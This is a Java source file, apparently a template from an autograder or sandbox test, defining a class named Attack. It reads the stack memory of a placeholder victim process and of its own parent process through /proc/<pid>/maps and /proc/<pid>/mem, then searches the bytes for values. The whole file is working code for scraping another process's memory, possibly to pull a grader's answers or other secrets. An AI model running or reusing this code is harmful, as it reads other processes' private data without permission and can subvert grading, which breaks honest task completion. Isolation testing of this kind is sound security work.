package autograd;

import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;

/** Reads the stacks of other processes, where their variables are. */
final class Attack {
    static void run() throws Throwable {
        long[] processes = {@VICTIM_PID@, ProcessHandle.current().parent().map(ProcessHandle::pid).orElse(0L)};
        IOException last = null;
        for (long process : processes) {
            try {
                search(Path.of("/proc", Long.toString(process)));
            } catch (IOException refused) {
                last = refused;
            }
        }
        if (last != null) {
            throw last;
        }
    }

    private static void search(Path process) throws IOException {
        for (String line : Files.readAllLines(process.resolve("maps"))) {
            if (line.endsWith("[stack]")) {
                long from = Long.parseLong(line.split("[- ]")[0], 16);
                long to = Long.parseLong(line.split("[- ]")[1], 16);
                byte[] bytes = new byte[(int) (to - from)];
                try (RandomAccessFile memory = new RandomAccessFile(process.resolve("mem").toFile(), "r")) {
                    memory.seek(from);
                    memory.readFully(bytes);
                }
                Trial.search(new String(bytes, StandardCharsets.ISO_8859_1));
            }
        }
    }
}
